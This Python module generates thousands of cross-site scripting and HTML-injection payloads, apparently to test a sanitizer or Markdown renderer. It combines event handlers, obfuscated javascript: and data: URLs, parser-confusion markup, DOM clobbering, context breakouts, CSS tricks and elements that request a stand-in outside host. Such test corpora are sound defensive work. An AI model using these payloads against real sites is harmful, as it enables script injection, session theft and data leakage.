"""Generators of hostile texts: public shapes of what runs a script, asks another host, or takes a page's names.

Each family is a product of short lists, so that a new trick is one more word. Every payload calls `xss()` if anything
lets it, or asks `elsewhere.example`.
"""

from collections.abc import Iterator
from html import escape
from itertools import chain, product
from urllib.parse import quote

CALL = "xss()"
ELSEWHERE = "elsewhere.example"
PICTURE = "/media/a.png"
"""A picture that is there: a payload with a missing one would be refused for that alone."""

TAGS = (
    f"img src={PICTURE}",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "marquee",
    "object data=x",
    "iframe src=about:blank",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "a href=#x tabindex=0",
    "p",
    "td",
    "x-y",
)
EVENTS = (
    "onload",
    "onerror",
    "onfocus",
    "onclick",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerrawupdate",
    "onbegin",
    "oncontentvisibilityautostatechange",
    "ONERROR",
    "oNlOaD",
)
QUOTINGS = ("{}={}", "{}='{}'", '{}="{}"', "{}={} x", "{}\n=\n{}", '{}="&#x78;ss&lpar;&rpar;"')
BETWEEN = (" ", "/", "\n", "\t", " x='>' ", '"')


def handlers() -> Iterator[str]:
    """Yield elements with a handler: tags, events, what stands between them, how the handler is quoted."""
    for number, (tag, event, quoting) in enumerate(product(TAGS, EVENTS, QUOTINGS)):
        yield f"<{tag}{BETWEEN[number % len(BETWEEN)]}{quoting.format(event, CALL)}>x"


SCHEMES = (
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    " javascript:xss()",
    "java\tscript:xss()",
    "java\nscript:xss()",
    "javascript\t:xss()",
    "&#1;javascript:xss()",
    "&#14;javascript:xss()",
    "&#106;avascript:xss()",
    "&#x6A&#x61vascript:xss()",
    "&#0000106avascript:xss()",
    "java&Tab;script:xss()",
    "java&NewLine;script:xss()",
    "javascript&colon;xss&lpar;&rpar;",
    "javascript&#58;xss()",
    "javascript%3Axss()",
    "%6aavascript:xss()",
    "javascript://%0axss()",
    "javascript://elsewhere.example/%0d%0axss()",
    "javascript:/*--></title></style></script>*/xss()",
    "javascript:xss`1`",
    "javascript:void(xss())//https://",
    "\\javascript:xss()",
    "javascript\\:xss()",
    "\u00a0javascript:xss()",
    "jav\u00adascript:xss()",
    "\u2028javascript:xss()",
    "\u202ejavascript:xss()",
    "\uff4aavascript:xss()",
    "livescript:xss()",
    "vbscript:xss()",
    "feed:javascript:xss()",
    "view-source:javascript:xss()",
    "jar:javascript:xss()",
    "blob:javascript:xss()",
    "data:text/html,<script>parent.xss()</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>",
    "data:text/javascript,xss()",
    "DATA:,xss()",
)
URL_PLACES = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a title=x href={}>x</a>",
    '<a href="#x" xlink:href="{}">x</a>',
    '<area href="{}">',
    '<blockquote cite="{}">x</blockquote>',
    '<form action="{}"><button formaction="{}">x</button></form>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<svg><use href="{}"/></svg>',
    '<svg><animate attributeName=href values="{}"/></svg>',
    '<math href="{}"><mtext>x</mtext></math>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">',
    '<link rel=stylesheet href="{}">',
    '<table background="{}"><tr><td background="{}">x</table>',
    '<video poster="{}"><source src="{}"></video>',
    '<script src="{}"></script>',
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}> 't'",
    "<{}>",
    "## [x]({})",
    "| [x]({}) |\n|---|\n| y |",
    "x[^n]\n\n[^n]: [y]({})",
)


def addresses() -> Iterator[str]:
    """Yield links and frames whose address is a script, spelled in every way a browser forgives."""
    for number, (place, url) in enumerate(product(URL_PLACES, SCHEMES)):
        yield _by_number(place, number).replace("{}", url)


def _by_number(shape: str, number: int) -> str:
    """Return a shape with names of its own for what a body may define but once."""
    return shape.replace("[r]", f"[r{number}]").replace("[^n]", f"[^n{number}]")


OUTER = (
    "svg",
    "math",
    "template",
    "noscript",
    "select",
    "table",
    "form",
    "svg><foreignObject",
    "math><annotation-xml",
)
BRIDGES = ("", "<mtext>", "<desc>", "<title>", "<p>", "<table><mglyph>", "<td>", "<a id='</a>'>")
RAW = ("style", "title", "textarea", "xmp", "noscript", "iframe", "script", "!--")


def namespaces() -> Iterator[str]:
    """Yield markup that a second parser reads otherwise than the first: namespaces, foster parents, raw text."""
    for outer, bridge, raw in product(OUTER, BRIDGES, RAW):
        closing = "-->" if raw == "!--" else f"</{raw}>"
        inner = f"<img src={PICTURE} onload={CALL}>"
        yield f"<{outer}>{bridge}<{raw}><a title='{closing}{inner}'>{closing}x"


NAMES = """
attributes body childNodes children cookie createElement currentScript defaultView documentElement domain fetch
firstChild forms getElementById head innerHTML links location nodeName parentNode querySelector querySelectorAll
scripts self submit title top URL window __proto__ constructor page-main page-latest page-lead page-similar
""".split()  # noqa: SIM905 - a list of words reads better than forty quotes
NAMED = (
    "<img src=/media/a.png name={0} id={0}>",
    "<form id={0}><input name={0}></form>",
    "<a id={0}></a><a id={0} name={0} href=/x/></a>",
    "<h2 id={0}>x</h2>",
    "## x {{#{0}}}",
    "<section id={0} class={0}><li id={0}>x</section>",
    "<iframe name={0} srcdoc=x></iframe>",
    "<p for={0} list={0} form={0} headers={0} aria-labelledby={0} data-list={0} data-latest={0}>x",
)


def clobbering() -> Iterator[str]:
    """Yield elements that take a name of the page's own scripts or of the browser."""
    for shape, name in product(NAMED, NAMES):
        yield shape.format(name)


BREAKS = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "--!>",
    "]]>",
    "?>",
    "*/",
    "</p></div></article></main>",
    "</script>",
    "</SCRIPT\t/x>",
    "</title>",
    "</style>",
    "</textarea>",
    "</noscript>",
    "</xmp>",
    "</template>",
    "\\u003c/script\\u003e",
    "\u2028",
    "\u2029",
    "\\",
    '\\"',
    "{{ 7*7 }}",
    "{% raw %}",
    "{% endblock %}{{ ''|safe }}",
    "{# ",
    "${7*7}",
    "<%= 7*7 %>",
    "\u202e",
    "\u2066\u202e",
    "\ufeff",
    "&quot;",
    "&#34;>",
    "&#x27;",
    "%22%3E",
    "+ADw-",
    "\u00bc",
    "\uff1c",
)
CARRIERS = (
    "<script>xss()</script>",
    "<script>xss()//",
    f"<img src={PICTURE} onload=xss()>",
    " onload=xss() onerror=xss() autofocus onfocus=xss() x=",
    ";xss();//",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>xss()</x:script>",
    '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
)


def breakouts() -> Iterator[str]:
    """Yield ends of every context a text is printed in, each followed by what would then run."""
    for end, carrier in product(BREAKS, CARRIERS):
        yield f"{end}{carrier}"


STYLES = (
    "background:url({})",
    "background:URL( '{}' )",
    "background-image:image-set('{}' 1x)",
    "behavior:url({})",
    "-moz-binding:url({})",
    "width:expression(xss())",
    "@import '{}'",
    "@import url({})",
    "list-style:url({})",
    "cursor:url({}),auto",
    "content:url({})",
    "\\75 rl({})",
    "b/**/ackground:u/**/rl({})",
    "position:fixed;inset:0;background:url({})",
    "animation-name:x;animation-duration:1s",
)
STYLED = (
    '<p style="{}">x</p>',
    "<div style='{}'>x</div>",
    "<style>* {{ {} }}</style>",
    "<style>{}</style>",
    "<svg><style>{}</style></svg>",
    "x {{: style='{}' }}",
)
ASKING = (
    "<img src=/media/a.png srcset='{}'>",
    "<picture><source srcset='{}'><img src=/media/a.png></picture>",
    "<link rel=prefetch href='{}'>",
    "<link rel=dns-prefetch href='{}'>",
    "<link rel=preload as=image href='{}'>",
    "<base href='{}'>",
    "<base target='{}'>",
    "<video src='{}' poster='{}' autoplay></video>",
    "<audio src='{}' autoplay></audio>",
    "<track src='{}'>",
    "<iframe src='{}'></iframe>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<input type=image src='{}'>",
    "<body background='{}'>",
    "<table background='{}'>",
    "<svg><image href='{}'/></svg>",
    "<svg><feImage xlink:href='{}'/></svg>",
    "<math><mglyph src='{}'></math>",
    "<script src='{}'></script>",
    "<a href=/x/ ping='{}'>x</a>",
    "<form action='{}'><input type=submit></form>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<meta http-equiv=Content-Security-Policy content='report-uri {}'>",
    "<portal src='{}'></portal>",
    "<fencedframe src='{}'></fencedframe>",
)
HOSTS = (f"https://{ELSEWHERE}/x", f"//{ELSEWHERE}/x", f"/\\{ELSEWHERE}/x", f"h\tttp:{ELSEWHERE}/x")


def styles_and_requests() -> Iterator[str]:
    """Yield styles of an article's own, and elements that ask another host as soon as they are seen."""
    for shape, style in product(STYLED, STYLES):
        yield shape.format(style.replace("{}", f"//{ELSEWHERE}/s.css"))
        yield shape.format(style.replace("{}", "javascript:xss()"))
    for shape, host in product(ASKING, HOSTS):
        yield shape.replace("{}", host)


SMALL = (
    "<script>xss()</script>",
    f"<img src={PICTURE} onload=xss()>",
    '" onmouseover="xss()',
    "' onmouseover='xss()",
    '"><script>xss()</script>',
    "<svg/onload=xss()>",
)
MARKDOWN = (
    '[x](/ "{}")',
    f'![{{}}]({PICTURE} "x")',
    f'![x]({PICTURE} "{{}} | y")',
    f'![x]({PICTURE} "y | {{}}")',
    f"![x][r]\n\n[r]: {PICTURE} '{{}}'",
    "## {}",
    "## `{}`\n\n[TOC]",
    "{}\n===",
    "> {}",
    "- {}\n    - {}",
    "`{}`",
    "``{}`` {}",
    "```{}\nx\n```",
    "``` x {}\n{}\n```",
    "~~~ {{: {} }}\nx\n~~~",
    "    {}",
    "| {} |\n|---|\n| {} |",
    "x\n:   {}",
    "*[HTML]: {}\n\nHTML",
    "x[^n]\n\n[^n]: {}",
    "x[^{}]\n\n[^{}]: x",
    "x {{: title='{}' }}",
    "## x {{: #{} .{} }}",
    "x {{: {} }}",
    "[{}]: /\n\n[{}]",
    "[x][{}]\n\n[{}]: /",
    "**{}** *{}*",
    "<div markdown=1>{}</div>",
    "<div>\n\n{}\n\n</div>",
    "<!-- {}",
    "<?x {}",
    "<![CDATA[{}",
    "<!X {}",
    "\\{}",
    "{}\n\n---\n\n{}",
)


def markdown() -> Iterator[str]:
    """Yield markup in every place Markdown has for a text."""
    for number, (shape, inner) in enumerate(product(MARKDOWN, SMALL), 10_000):
        yield _by_number(shape, number).replace("{{", "{").replace("}}", "}").replace("{}", inner)


def encodings() -> Iterator[str]:
    """Yield the same few scripts in every spelling that something decodes once too often."""
    for text in SMALL:
        yield escape(text)
        yield escape(escape(text))
        yield quote(text)
        yield quote(quote(text))
        yield "".join(f"&#{ord(letter)};" for letter in text)
        yield "".join(f"&#x{ord(letter):x}" for letter in text)
        yield "".join(f"\\u{ord(letter):04x}" for letter in text)
        yield "".join(f"\\x{ord(letter):02x}" for letter in text)
        yield "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text)
        yield text.replace("<", "<\u200b").replace("=", "\u200b=")
        yield text.swapcase()
        yield text.replace("script", "scr<script>ipt")
        yield text.replace("<", "<<")
        yield text.replace(" ", "\u000c")
        yield text.replace("s", "\u017f")


FAMILIES = (
    handlers,
    addresses,
    namespaces,
    clobbering,
    breakouts,
    styles_and_requests,
    markdown,
    encodings,
)


def payloads(*, thin: int = 1) -> tuple[str, ...]:
    """Return the distinct payloads of all families; of the largest product of tricks only one in so many."""
    families = (list(family())[:: thin if family is namespaces else 1] for family in FAMILIES)
    return tuple(dict.fromkeys(chain.from_iterable(families)))
